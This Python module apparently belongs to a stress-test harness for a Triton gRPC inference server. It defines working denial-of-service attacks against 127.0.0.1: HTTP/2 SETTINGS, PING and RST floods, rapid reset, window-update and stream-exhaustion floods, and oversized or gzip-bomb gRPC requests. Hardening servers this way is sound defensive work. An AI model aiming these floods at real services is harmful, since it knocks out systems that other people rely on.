"""The attack classes of bench/grpc_hostile.py (issue 42): raw HTTP/2 peers and gRPC clients
that each run one attack against 127.0.0.1:`port` until `deadline` (time.monotonic()), and
stop by themselves. `ATTACKS` names them; the runner is grpc_hostile.py."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable
from typing import Any

import grpc
import hpack
import numpy as np
from tritonclient.grpc import service_pb2 as pb

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"
STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big")
    return head + payload


def request_block(encoder: hpack.Encoder, path: str) -> bytes:
    return encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )


def simple_request() -> bytes:
    request = pb.ModelInferRequest(model_name="simple")
    for name in ("INPUT0", "INPUT1"):
        request.inputs.add(name=name, datatype="INT32", shape=[1, 16])
        request.raw_input_contents.append(np.full(16, 2, np.int32).tobytes())
    data: bytes = request.SerializeToString()
    return data


# ---- the attacker: a raw socket ----------------------------------------------------------


class Raw:
    """One hostile connection: sends what it is told until its deadline; reads only if asked."""

    def __init__(self, port: int, deadline: float) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=0.2)
        self.deadline = deadline
        self.sent = 0
        self.received = bytearray()
        self.outcome = "served until the end"
        self.send(PREFACE + frame(4, 0, 0))

    def live(self) -> bool:
        return time.monotonic() < self.deadline and self.outcome == "served until the end"

    def send(self, data: bytes) -> bool:
        view = memoryview(data)
        while view and time.monotonic() < self.deadline:
            try:
                n = self.sock.send(view)
            except TimeoutError:
                continue  # the server reads nothing more of us (for now)
            except OSError:
                self.closed()
                return False
            self.sent += n
            view = view[n:]
        return not view

    def read(self) -> None:
        try:
            self.sock.settimeout(0.0)
            while len(self.received) < 1 << 20:
                data = self.sock.recv(65536)
                if not data:
                    self.closed()
                    break
                self.received += data
        except (BlockingIOError, TimeoutError):
            pass
        except OSError:
            self.closed()
        finally:
            self.sock.settimeout(0.2)
        # the first GOAWAY among what came back
        pos = 0
        received = self.received
        while pos + 9 <= len(received):
            length = int.from_bytes(received[pos : pos + 3], "big")
            if pos + 9 + length > len(received):
                break
            if received[pos + 3] == 7:
                code = int.from_bytes(received[pos + 13 : pos + 17], "big")
                self.outcome = f"GOAWAY {code}"
                return
            pos += 9 + length
        del received[:pos]

    def closed(self) -> None:
        if self.outcome == "served until the end":
            self.outcome = "closed"

    def close(self) -> None:
        self.sock.close()


def flood(port: int, deadline: float, chunk: bytes, reads: bool, setup: bytes = b"") -> Raw:
    raw = Raw(port, deadline)
    if setup:
        raw.send(setup)
    while raw.live():
        if not raw.send(chunk):
            break
        if reads:
            raw.read()
    if reads or raw.outcome == "served until the end":
        raw.read()
    return raw


def settings_noread(port: int, deadline: float) -> Raw:
    return flood(port, deadline, frame(4, 0, 0) * 5000, reads=False)


def ping_noread(port: int, deadline: float) -> Raw:
    encoder = hpack.Encoder()
    setup = frame(1, 0x4, 1, request_block(encoder, STREAM))  # a call open: pings are allowed
    return flood(port, deadline, frame(6, 0, 0, b"12345678") * 5000, False, setup)


def rst_noread(port: int, deadline: float) -> Raw:
    encoder = hpack.Encoder()
    setup = frame(1, 0x4, 1, request_block(encoder, STREAM))
    bad_priority = frame(2, 0, 1, b"\0\0\0\0")  # 4 bytes: a stream error, RST_STREAM each
    return flood(port, deadline, bad_priority * 5000, False, setup)


def window_flood_open_calls(port: int, deadline: float) -> Raw:
    encoder = hpack.Encoder()
    block = request_block(encoder, STREAM)
    setup = b"".join(frame(1, 0x4, 2 * n + 1, block) for n in range(900))
    chunk = (frame(8, 0, 0, b"\0\0\0\1") + frame(4, 0, 0)) * 2500
    return flood(port, deadline, chunk, True, setup)


def rapid_reset(port: int, deadline: float) -> Raw:
    raw = Raw(port, deadline)
    encoder = hpack.Encoder()
    block = request_block(encoder, INFER)
    stream = 1
    while raw.live() and stream < 2 * 20_000:
        batch = b"".join(
            frame(1, 0x4, s, block) + frame(3, 0, s, b"\0\0\0\x08")
            for s in range(stream, stream + 2000, 2)
        )
        stream += 2000
        if not raw.send(batch):
            break
        raw.read()
    raw.read()
    return raw


def many_streams(port: int, deadline: float) -> Raw:
    raw = Raw(port, deadline)
    encoder = hpack.Encoder()
    block = request_block(encoder, STREAM)
    raw.send(b"".join(frame(1, 0x4, 2 * n + 1, block) for n in range(10_000)))
    while raw.live():
        raw.read()
        time.sleep(0.05)
    return raw


def empty_data(port: int, deadline: float) -> Raw:
    encoder = hpack.Encoder()
    setup = frame(1, 0x4, 1, request_block(encoder, STREAM))
    raw = Raw(port, deadline)
    raw.send(setup)
    chunk = frame(0, 0, 1) * 10_000
    count = 0
    while raw.live() and count < 2_000_000:
        if not raw.send(chunk):
            break
        count += 10_000
        raw.read()
    raw.read()
    return raw


def _grpc_loop(payload: bytes, compression: Any) -> Callable[[int, float], Any]:
    def attack(port: int, deadline: float) -> dict[str, Any]:
        channel = grpc.insecure_channel(
            f"127.0.0.1:{port}", options=[("grpc.max_send_message_length", -1)]
        )
        method = channel.unary_unary(INFER)
        calls, times, codes = 0, [], set()
        while time.monotonic() < deadline:
            started = time.monotonic()
            try:
                method(payload, compression=compression, timeout=60)
                codes.add("OK")
            except grpc.RpcError as error:
                codes.add(error.code().name)
            times.append(time.monotonic() - started)
            calls += 1
        channel.close()
        return {"outcome": f"{calls} calls, {'/'.join(sorted(codes))}", "max_call_s": max(times)}

    return attack


ATTACKS: dict[str, Callable[[int, float], Any]] = {
    "settings_noread": settings_noread,
    "ping_noread": ping_noread,
    "rst_noread": rst_noread,
    "window_flood_open_calls": window_flood_open_calls,
    "rapid_reset": rapid_reset,
    "many_streams": many_streams,
    "empty_data": empty_data,
    "zeros_2mib": _grpc_loop(b"\0" * (2 << 20), None),
    "gzip_8mib_zeros": _grpc_loop(b"\0" * (8 << 20), grpc.Compression.Gzip),
    "long_name_300kb": _grpc_loop(
        pb.ModelInferRequest(model_name="m" * 300_000).SerializeToString(), None
    ),
}
